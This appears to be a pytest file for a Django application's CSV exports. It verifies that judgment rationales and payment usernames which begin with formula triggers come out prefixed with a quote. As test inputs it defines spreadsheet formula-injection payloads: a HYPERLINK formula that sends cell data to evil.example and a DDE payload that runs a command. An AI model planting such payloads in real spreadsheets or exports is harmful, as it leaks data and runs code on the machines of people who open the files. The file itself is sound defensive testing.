"""Every CSV export writes a text cell a spreadsheet would run as a formula with a leading quote."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import demo_responses, demo_version
from tests.validation.builders import as_file, judgment_lines
from validation.services.imports import import_judgments

SNEAKY = "@SUM(A1:A9)"
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


def _rows(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def campaign(cast):
    demo_version()
    demo_responses()
    lines = judgment_lines([e.username for e in cast.experts] + [SNEAKY])
    lines[0]["reasons"][: len(FORMULAS)] = FORMULAS
    return import_judgments(source=as_file(lines), dataset_name="demo", campaign_name="blind-1", create_experts=True).campaign


def test_the_judgments_export_quotes_rationales_starting_with_a_formula_trigger(cast, client_for, campaign):
    response = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, "judgments", "csv"]))
    assert response.status_code == 200
    rationales = {row["rationale"] for row in _rows(response)}
    assert {"'" + formula for formula in FORMULAS} <= rationales
    assert not rationales & set(FORMULAS)


def test_the_payments_export_quotes_a_username_starting_with_a_formula_trigger(cast, client_for, campaign):
    response = client_for(cast.admin).get(reverse("annotation:campaign_payments", args=[campaign.pk]))
    assert response.status_code == 200
    experts = [row["expert"] for row in _rows(response)]
    assert "'" + SNEAKY in experts and SNEAKY not in experts


def test_the_payments_total_line_stays_unquoted(cast, client_for, campaign):
    response = client_for(cast.admin).get(reverse("annotation:campaign_payments", args=[campaign.pk]))
    total = _rows(response)[-1]
    assert total["expert"] == "TOTAL" and not total["amount"].startswith("'")
